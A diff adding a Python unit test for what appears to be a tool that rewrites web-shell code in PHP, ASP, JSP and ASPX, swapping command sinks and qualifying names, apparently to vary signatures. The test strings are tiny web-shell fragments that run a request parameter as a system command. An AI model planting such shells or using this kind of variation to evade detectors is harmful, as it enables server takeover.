@@ -132,3 +132,22 @@ def test_request_sources_swap_keys_and_keep_other_code() -> None:
     assert m.aspx_header(aspx, r) == (
         '<%@ Page Language="C#" %><% Run(Request.Headers["c"]); Run(Request[k]); %>'
     )
+
+
+def test_twins_and_full_names_keep_what_they_do_not_name() -> None:
+    r = random.Random(0)
+    page = "<?php system($_GET['c']); EVAL($x); $o->system(1); echo 'system('; ?>"
+    assert m.php_sink(page, r) == (
+        "<?php passthru($_GET['c']); assert($x); $o->system(1); echo 'system('; ?>"
+    )
+    assert m.asp_global("<% Execute a : ExecuteGlobal b %>", r) == (
+        "<% ExecuteGlobal a : ExecuteGlobal b %>"
+    )
+    jsp = "<% Runtime.getRuntime().exec(c); File f = new File(p); java.io.File g; %>"
+    assert m.jsp_qualified(jsp, r) == (
+        "<% java.lang.Runtime.getRuntime().exec(c); File f = new java.io.File(p); java.io.File g; %>"
+    )
+    aspx = '<%@ Page Language="C#" %><% Process.Start(c); System.IO.File.Delete(x); %>'
+    assert m.aspx_qualified(aspx, r) == (
+        '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start(c); System.IO.File.Delete(x); %>'
+    )
